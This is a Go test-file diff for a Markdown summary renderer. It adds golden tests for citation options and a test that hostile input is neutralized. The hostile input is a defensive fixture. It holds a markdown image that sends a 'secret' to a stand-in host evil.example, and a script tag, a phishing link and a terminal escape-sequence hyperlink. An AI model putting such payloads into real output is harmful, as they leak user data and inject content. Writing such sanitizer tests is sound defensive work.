@@ -2,6 +2,7 @@ package summarize
 
 import (
 	"flag"
+	"strings"
 	"os"
 	"path/filepath"
 	"testing"
@@ -46,9 +47,40 @@ func TestMarkdownGolden(t *testing.T) {
 		Source:       SourceInfo{Name: "ed-21-01.md"},
 	}
 	full.tidy(40)
-	golden(t, "render/full.md", []byte(full.Markdown()))
+	full.paras = map[int]sourcePara{1: {start: "CISA issued Emergency Directive 21-01 …", page: 1}, 2: {start: "Section 3553(h)"}, 9: {start: "Agencies must"}}
+	for name, opt := range map[string]RenderOptions{
+		"full.md":        {},
+		"full_inline.md": {Citations: CitationsInline},
+		"full_none.md":   {Citations: CitationsNone},
+	} {
+		golden(t, "render/"+name, []byte(full.Markdown(opt)))
+	}
 
 	sparse := &Brief{Lead: Paragraph{Text: "Only a lead."}, Source: SourceInfo{Name: "note.txt"}}
 	sparse.tidy(0)
-	golden(t, "render/sparse.md", []byte(sparse.Markdown()))
+	golden(t, "render/sparse.md", []byte(sparse.Markdown(RenderOptions{})))
+}
+
+func TestMarkdownNeutralizesHostileText(t *testing.T) {
+	b := &Brief{
+		Title: "# Title <script>alert(1)</script>",
+		Lead: Paragraph{Text: "See ![x](https://evil.example/p.png?d=secret) and [the directive](https://www.cisa.gov/ed-21-01) " +
+			"or [click](https://evil.example/phish) <img src=https://evil.example/i.png> https://evil.example/raw and \x1b]8;;https://evil.example\x07hi"},
+		Sections: []Section{{Heading: "Background", Paragraphs: []Paragraph{{Text: "# not a heading"}, {Text: "1. not a list"}, {Text: "[x]: https://evil.example/def"}}}},
+	}
+	b.sourceURLs = map[string]bool{"https://www.cisa.gov/ed-21-01": true}
+	got := b.Markdown(RenderOptions{Citations: CitationsNone})
+	for _, bad := range []string{"](https://evil", "<img", "<script", "\x1b", "\n# not", "\n1. not", "\n[x]:", " https://evil.example/raw "} {
+		if strings.Contains(got, bad) {
+			t.Errorf("rendered markdown contains %q:\n%s", bad, got)
+		}
+	}
+	if !strings.Contains(got, "[the directive](https://www.cisa.gov/ed-21-01)") {
+		t.Errorf("a link the report contains was dropped:\n%s", got)
+	}
+	golden(t, "render/hostile.md", []byte(got))
+	allowed := b.Markdown(RenderOptions{Citations: CitationsNone, AllowLinks: true})
+	if !strings.Contains(allowed, "[click](https://evil.example/phish)") {
+		t.Errorf("--allow-links did not keep links:\n%s", allowed)
+	}
 }
